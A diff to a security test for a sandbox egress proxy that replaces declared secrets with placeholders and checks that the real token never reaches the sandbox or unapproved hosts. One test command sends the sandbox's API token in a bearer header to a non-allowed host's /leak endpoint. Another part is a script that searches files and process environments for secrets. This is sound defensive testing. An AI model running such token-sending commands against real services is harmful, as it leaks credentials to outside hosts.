@@ -12,6 +12,7 @@ import base64
 import json
 import os
 import secrets
+import time
 
 import pytest
 from cryptography.hazmat.primitives import serialization
@@ -26,12 +27,15 @@ from security.test_egress import events_for, eventually, probe, sandbox_with
 pytestmark = [pytest.mark.skipif(os.geteuid() != 0, reason="sandboxes and test hosts need root"),
               pytest.mark.slow]
 
-# Runs inside the sandbox: every file (but /proc, /sys, /dev), every process's environment and
-# command line, searched for each needle. The needles come reversed, so this process's own
-# command line does not hold them.
+# Runs inside the sandbox: every process's environment and command line, every file under the
+# places configuration and state live, and every other file changed since the sandbox was made
+# (errand could write nothing into it before; the image's own files are older), searched for each
+# needle. The needles come reversed, so this process's own command line does not hold them.
 SEARCH = r'''
 import json, os, sys
-needles = [bytes.fromhex(arg)[::-1] for arg in sys.argv[1:]]
+since = float(sys.argv[1])
+needles = [bytes.fromhex(arg)[::-1] for arg in sys.argv[2:]]
+everything = ("/etc/", "/tmp/", "/run/", "/root/", "/home/", "/var/", "/workspace/")
 hits = []
 def check(path):
     try:
@@ -39,13 +43,18 @@ def check(path):
             data = f.read(64 << 20)
     except OSError:
         return
-    hits.extend(path for needle in needles if needle in data)
+    hits.extend([index, path] for index, needle in enumerate(needles) if needle in data)
 for root, dirs, files in os.walk("/"):
     if root == "/":
         dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
     for name in files:
         path = os.path.join(root, name)
-        if os.path.isfile(path) and not os.path.islink(path):
+        try:
+            info = os.lstat(path)
+        except OSError:
+            continue
+        if os.path.isfile(path) and not os.path.islink(path) and (
+                path.startswith(everything) or max(info.st_ctime, info.st_mtime) >= since):
             check(path)
 for pid in filter(str.isdigit, os.listdir("/proc")):
     for what in ("environ", "cmdline"):
@@ -67,7 +76,9 @@ async def test_a_declared_secret_reaches_its_host_only_and_never_the_sandbox(
     value = f"real-{secrets.token_hex(16)}"
     mark = host.mark()
     network = Network.allow(ALLOWED, OTHER)
-    async with sandbox_with(backend, network, test_ca, secrets=[Secret("API_TOKEN", value, hosts=[ALLOWED])]) as sb:
+    since = time.time() - 60  # before the sandbox was made (with room for a clock's coarseness)
+    async with sandbox_with(backend, network, test_ca, secrets=[Secret("API_TOKEN", value, hosts=[ALLOWED])],
+                            timeout=900) as sb:
         placeholder = (await sb.run("printenv", "API_TOKEN")).stdout.strip()
         assert placeholder.startswith("errand-placeholder-") and value not in placeholder
         # curl trusts the sandbox's CA through CURL_CA_BUNDLE (no --cacert).
@@ -89,6 +100,10 @@ async def test_a_declared_secret_reaches_its_host_only_and_never_the_sandbox(
         other = await sb.run("sh", "-c", f'curl -sS --max-time 30 --cacert /tmp/ca.pem '
                                          f'-H "Authorization: Bearer $API_TOKEN" https://{OTHER}/leak', timeout=60)
         assert other.exit_code == 0, other.stderr
+        # Plain HTTP is never swapped, even to the declared host: the value would cross in the clear.
+        plain = await sb.run("sh", "-c", f'curl -sS --max-time 30 -H "Authorization: Bearer $API_TOKEN" '
+                                         f'http://{ALLOWED}/plain', timeout=60)
+        assert plain.exit_code == 0, plain.stderr
 
         # Nothing the sandbox can read holds the value, nor the CA's private key.
         interceptor = _egress_proxy()._interceptors[sb.id]
@@ -98,10 +113,13 @@ async def test_a_declared_secret_reaches_its_host_only_and_never_the_sandbox(
         pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                 serialization.NoEncryption()).splitlines()[1]
         await sb.files.write("/tmp/search.py", SEARCH)
-        needles = [value.encode(), scalar, pem]
-        search = await sb.run("/usr/bin/python3", "/tmp/search.py", *(n[::-1].hex() for n in needles), timeout=300)
+        needles = [placeholder.encode(), value.encode(), scalar, pem]  # the placeholder: a control
+        search = await sb.run("/usr/bin/python3", "/tmp/search.py", str(since),
+                            *(n[::-1].hex() for n in needles), timeout=600)
         assert search.exit_code == 0, search.stderr
-        assert json.loads(search.stdout) == []
+        hits = json.loads(search.stdout)
+        assert [path for index, path in hits if index > 0] == []
+        assert any(path.endswith("/environ") for _index, path in hits), hits  # the search does find
         assert (await sb.files.read(CA_PATH)) == interceptor.ca_pem
         log = await sb.egress_log()
         # Nor do the proxy's events and logs, or anything the sandbox's record keeps on the host.
@@ -115,6 +133,7 @@ async def test_a_declared_secret_reaches_its_host_only_and_never_the_sandbox(
     credentials = headers_of(served["/basic"])["authorization"].removeprefix("Basic ")
     assert base64.b64decode(credentials).decode() == f"x-access-token:{value}"
     assert headers_of(served["/leak"])["authorization"] == f"Bearer {placeholder}"
+    assert headers_of(served["/plain"])["authorization"] == f"Bearer {placeholder}"
     assert [e["sni"] for e in host.events(mark, ev="tls")].count(ALLOWED) == 2  # re-originated, verified
     assert events_for(log, ALLOWED)
     assert all(value not in json.dumps(vars(event)) for event in log)
